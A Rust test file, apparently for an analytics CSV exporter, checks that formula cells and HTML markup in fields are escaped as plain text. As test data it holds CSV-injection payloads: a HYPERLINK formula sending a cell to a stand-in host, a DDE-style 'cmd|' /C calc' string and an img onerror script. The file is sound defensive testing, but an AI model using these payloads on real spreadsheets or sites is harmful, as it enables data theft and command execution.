//! Formula cells (CSV injection) and markup: text stays text.

use super::*;

#[test]
fn h01_hyperlink_client_id_is_text_in_sessions_csv() {
    let id = r#"=HYPERLINK("http://x.example/?"&A1,"click")"#;
    let got = cells(
        &[view(id, "https://puffy.com/", "", T)],
        "sessions.csv",
        "client_id",
    );
    assert_eq!(got, vec![format!("'{id}")]);
}

#[test]
fn h02_formula_referrer_is_text_in_events_enriched() {
    let got = cells(
        &[view("c1", "https://puffy.com/", "=1+2", T)],
        "events_enriched.csv",
        "referrer",
    );
    assert_eq!(got, vec!["'=1+2"]);
}

#[test]
fn h03_at_sign_page_url_is_text_as_landing_page() {
    let got = cells(
        &[view("c1", "@SUM(1+1)*cmd|' /C calc'!A0", "", T)],
        "sessions.csv",
        "landing_page",
    );
    assert_eq!(got, vec!["'@SUM(1+1)*cmd|' /C calc'!A0"]);
}

#[test]
fn h04_plus_and_minus_transaction_ids_are_text_in_conversions() {
    let rows = [
        order(
            "c1",
            "2025-02-23T10:00:00.000Z",
            r#"{"transaction_id":"+1+cmd","revenue":10}"#,
        ),
        order(
            "c2",
            "2025-02-23T10:00:01.000Z",
            r#"{"transaction_id":"-2-3","revenue":10}"#,
        ),
    ];
    assert_eq!(
        cells(&rows, "conversions.csv", "transaction_id"),
        vec!["'+1+cmd", "'-2-3"]
    );
    // Numbers stay numbers.
    assert_eq!(
        cells(&rows, "conversions.csv", "revenue"),
        vec!["10.00", "10.00"]
    );
}

#[test]
fn h05_full_width_equals_sign_is_text() {
    let got = cells(
        &[view("＝1+1", "https://puffy.com/", "", T)],
        "events_enriched.csv",
        "client_id",
    );
    assert_eq!(got, vec!["'＝1+1"]);
}

#[test]
fn h06_a_quarantined_formula_row_is_text_in_quarantine_csv() {
    let line = view("=cmd", "https://puffy.com/", "", "yesterday");
    let got = cells(&[line], "quarantine.csv", "raw");
    // The row re-joined as CSV (the user agent has no comma: unquoted).
    assert_eq!(
        got,
        vec![format!(
            "'=cmd,https://puffy.com/,,yesterday,page_viewed,,{UA}"
        )]
    );
}

#[test]
fn h07_markup_in_a_client_id_stays_text_in_report_json() {
    let ds = load(
        DAY,
        file(&[view(
            "<img src=x onerror=alert(1)>",
            "https://puffy.com/",
            "",
            "nope",
        )])
        .as_bytes(),
    );
    let run = run(&ds, &Config::default()).unwrap();
    let json = serde_json::to_string(&report(&ds, &run)).unwrap();
    // serde escapes nothing here; the page and HTML report show it as text.
    assert!(json
        .contains(r#""raw":"<img src=x onerror=alert(1)>,https://puffy.com/,,nope,page_viewed,,"#));
}
